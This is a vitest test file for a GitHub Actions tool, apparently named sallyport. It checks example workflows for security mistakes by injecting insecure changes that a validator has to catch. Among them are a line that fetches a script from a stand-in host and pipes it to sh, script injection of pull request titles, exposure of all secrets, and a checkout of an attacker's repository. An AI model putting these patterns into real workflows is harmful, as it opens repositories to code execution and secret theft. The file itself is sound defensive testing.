import { readdirSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import { startersFor } from '../src/commands/init/starters.js';
import { uses } from '../src/commands/init/types.js';
import { settingNames } from '../src/settings/table.js';
import { expressionsIn, isOurs, parseWorkflow, type Step } from './doubles/workflow.js';
import { type Rights, workflowProblems } from './doubles/workflow-problems.js';

const root = resolve(import.meta.dirname, '..');
const read = (path: string) => readFileSync(join(root, path), 'utf8');
const folder = 'examples/workflows';
const reads = { checks: 'read', statuses: 'read', actions: 'read' };

/** What each job may do, and nothing else; the whole right of a workflow stands here. */
const rights: Readonly<Record<string, Rights>> = {
  batch: { plan: { contents: 'read' }, shard: { contents: 'read' }, merge: { contents: 'write' } },
  ci: { contents: 'read', 'pull-requests': 'write', issues: 'read', ...reads },
  comment: { contents: 'read', issues: 'write', 'pull-requests': 'write', ...reads },
  continue: { contents: 'write', issues: 'write', 'pull-requests': 'write', ...reads },
  fix: { contents: 'write', 'pull-requests': 'write', issues: 'read', ...reads },
  'fork-collect': { contents: 'read' },
  'fork-post': { actions: 'read', 'pull-requests': 'write' },
  'fork-review': { contents: 'read', 'pull-requests': 'write', issues: 'read', ...reads },
  labels: { contents: 'read', 'pull-requests': 'write' },
  nightly: { contents: 'write' },
  review: { contents: 'read', 'pull-requests': 'write', issues: 'read', ...reads },
  schedule: { contents: 'read', issues: 'write' },
  triage: { contents: 'read', issues: 'write' },
};

const files = readdirSync(join(root, folder)).map((file) => [file, read(`${folder}/${file}`)] as const);

test.each(files)('the workflow %s has no problems', (file, text) => {
  expect(workflowProblems(text, rights[file.replace(/^sallyport-|\.yml$/g, '')] ?? {})).toEqual([]);
});

/** Each a class of mistake that would open a repository; a change of a good workflow, and what has to be said of it. */
const mistakes: readonly (readonly [file: string, from: string, to: string, problem: string])[] = [
  [
    'fork-collect',
    '{ npm ci',
    'echo "${{ github.event.pull_request.title }}"; { npm ci',
    'pull_request.title in a script',
  ],
  ['fork-collect', '{ npm ci', 'echo ${{ github.head_ref }}; { npm ci', 'github.head_ref in a script'],
  ['fork-collect', '{ npm ci', 'curl -s https://x.example/i | sh; { npm ci', 'a script that steers others'],
  ['fork-collect', '{ npm ci', 'echo A=1 >> $GITHUB_ENV; { npm ci', 'a script that steers others'],
  [
    'fork-collect',
    'HEAD: ${{',
    'KEY: ${{ secrets.KEY }}\n          HEAD: ${{',
    "secrets in a job with a pull request's code",
  ],
  ['fork-collect', 'HEAD: ${{', 'ALL: ${{ toJSON(secrets) }}\n          HEAD: ${{', 'toJSON(secrets) in a setting'],
  ['fork-collect', 'pull_request:', 'pull_request_target:', 'a script in a job with secrets'],
  ['comment', 'reaction: true', 'prompt: ${{ github.event.comment.body }}', 'an event in our settings'],
  ['comment', 'reaction: true', 'args: ${{ github.event.issue.title }}', 'issue.title in a setting'],
  ['comment', 'reaction: true', 'reactoin: true', 'no input reactoin'],
  ['comment', 'permissions: {}', 'permissions: write-all', 'rights for the whole workflow'],
  ['comment', 'permissions: {}\n', '', 'rights for the whole workflow'],
  ['comment', 'contents: read', 'contents: write', 'other rights than the job needs'],
  ['comment', '      contents: read\n', '      contents: read\n      id-token: write\n', 'other rights'],
  ['comment', '@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0', '@v5', 'is not pinned'],
  ['comment', ' # v5.0.0', '', 'is not pinned'],
  ['comment', 'actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0', 'docker://alpine', 'is not pinned'],
  ['comment', 'actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0', './.github/x', 'is not pinned'],
  ['ci', ' &&\n      github.event.workflow_run.head_repository.full_name == github.repository', '', 'code in a run'],
  ['comment', '          persist-credentials: false\n', '', 'a token in the checkout'],
  ['comment', 'issue_comment:', 'issue_comments:', 'unknown key issue_comments'],
  ['comment', 'timeout-minutes: 20', 'timeout-minute: 20', 'no timeout'],
  ['comment', 'ubuntu-latest', 'self-hosted', 'another machine'],
  ['comment', '    steps:', '    secrets: inherit\n    steps:', 'unknown key secrets'],
  [
    'fork-review',
    '          fetch-depth: 0',
    '          ref: ${{ github.event.pull_request.head.sha }}',
    'a checkout of something else',
  ],
  ['fork-review', '          fetch-depth: 0', '          repository: mallory/repo', 'a checkout of something else'],
  ['fork-review', '    steps:', '    steps:\n      - run: npm ci', 'a script in a job with secrets'],
  ['fork-post', '    steps:', '    steps:\n      - run: cat handoff.json', 'code in a run that follows another'],
  ['fork-post', '${{ runner.temp }}/handoff\n', '.\n', 'an artifact in the workspace'],
  ['fork-post', "github.event.workflow_run.event == 'pull_request' && ", '', 'what started the previous run'],
  [
    'fork-post',
    'run-id: ${{ github.event.workflow_run.id }}',
    'run-id: ${{ github.event.workflow_run.head_branch }}',
    'head_branch in a setting',
  ],
];

test.each(mistakes)('the mistake in sallyport-%s.yml of %j as %j is found', (name, from, to, problem) => {
  const [, text = ''] = files.find(([file]) => file === `sallyport-${name}.yml`) ?? [];
  expect(text).toContain(from);
  const problems = workflowProblems(
    text.replace(from, () => to),
    rights[name] ?? {},
  );
  expect(problems.join('\n')).toContain(problem);
});

test('the second phase follows an existing workflow', () => {
  const names = files.map(([, text]) => parseWorkflow(text).name);
  for (const [, text] of files) {
    const { workflow_run: follows } = parseWorkflow(text).on as {
      readonly workflow_run?: { readonly workflows: readonly string[] };
    };
    // CI is the workflow of the repository that init finds.
    for (const name of follows?.workflows ?? []) if (name !== 'CI') expect(names).toContain(name);
  }
});

test('init writes the examples', () => {
  const model = ['model: anthropic/claude-sonnet-4-5', 'api-key: ${{ secrets.ANTHROPIC_API_KEY }}'];
  const written = startersFor(uses, {
    action: 'OWNER/sallyport@v1',
    release: null,
    ciWorkflows: ['CI'],
    reviewPath: null,
    model,
    serverVariable: null,
    hasPrice: true,
  })
    .filter(({ path }) => path.startsWith('.github/workflows/'))
    .map(({ path, text }) => [path.replace('.github/workflows/', ''), text]);
  expect(Object.fromEntries(written)).toEqual(
    Object.fromEntries(files.filter(([file]) => file !== 'sallyport-labels.yml')),
  );
});

test('init writes the action and the model of its flags into the examples', () => {
  const model = ['model: compatible/x', 'base-url: ${{ vars.URL }}', 'api-key: ${{ secrets.K }}'];
  const texts = startersFor(uses, {
    action: 'o/mono/sub@v2',
    release: null,
    ciWorkflows: ['CI'],
    reviewPath: null,
    model,
    serverVariable: null,
    hasPrice: true,
  }).map(({ text }) => text);
  const all = texts.join('');
  expect(all).not.toMatch(/OWNER|anthropic|claude-/i);
  expect(all).toContain('https://raw.githubusercontent.com/o/mono/v2/sub/schema/config.schema.json');
  expect(all).toContain(
    `          ${model.join('\n          ')}\n          sandbox: require\n          max-cost-usd: 2\n          reaction: true`,
  );
  expect(all.match(/uses: o\/mono\/sub@v2$/gm)).toHaveLength(13);
});

describe('the pages', () => {
  const pages = [
    'README.md',
    ...readdirSync(join(root, 'docs'), { recursive: true, encoding: 'utf8' }).map((name) => `docs/${name}`),
  ]
    .filter((path) => path.endsWith('.md'))
    .map((path) => path.replaceAll('\\', '/'));
  const blocks = pages.flatMap((page) =>
    [...read(page).matchAll(/^```ya?ml\n(.*?)^```$/gms)].map(([, text = '']) => ({ page, text })),
  );

  test('every action is pinned to one commit in all workflows and pages', () => {
    const own = readdirSync(join(root, '.github/workflows')).map((name) => read(`.github/workflows/${name}`));
    const texts = [...own, ...files.map(([, text]) => text), ...pages.map(read)];
    const pins = new Map<string, Set<string>>();
    for (const text of texts)
      for (const [, name = '', pin = ''] of text.matchAll(/uses: ([\w/-]+)@([0-9a-f]{40} # v[\d.]+)$/gm))
        pins.set(name, (pins.get(name) ?? new Set()).add(pin));
    expect([...pins].filter(([, { size }]) => size > 1)).toEqual([]);
    expect([...pins.keys()]).toContain('actions/download-artifact');
  });

  // A batch file has `jobs` too, but no `on`.
  const workflows = blocks.filter(({ text }) => /^jobs:/m.test(text) && /^on:/m.test(text));

  test('the pages show workflow files unchanged', () => {
    for (const { page, text } of workflows) {
      expect(
        files.map(([, file]) => file),
        page,
      ).toContain(text);
    }
  });

  test('the pages show every workflow file', () => {
    expect(new Set(workflows.map(({ text }) => text)).size).toBe(files.length);
  });

  test.each(
    blocks.filter(({ text }) => text.includes('uses:') && !/^jobs:/m.test(text)),
  )('the steps in $page put no untrusted text into a script or a prompt', ({ text }) => {
    for (const step of stepsIn(parse(text))) {
      expect(expressionsIn(step.run)).toEqual([]);
      expect(expressionsIn(step.with?.['prompt'])).toEqual([]);
      if (!isOurs(step.uses)) continue;
      for (const name of Object.keys(step.with ?? {})) expect(settingNames).toContain(name);
    }
  });
});

/** A list of steps, or a piece of a job. */
function stepsIn(value: unknown): readonly Step[] {
  return (
    Array.isArray(value) ? value : ((value as { readonly steps?: readonly Step[] }).steps ?? [])
  ) as readonly Step[];
}
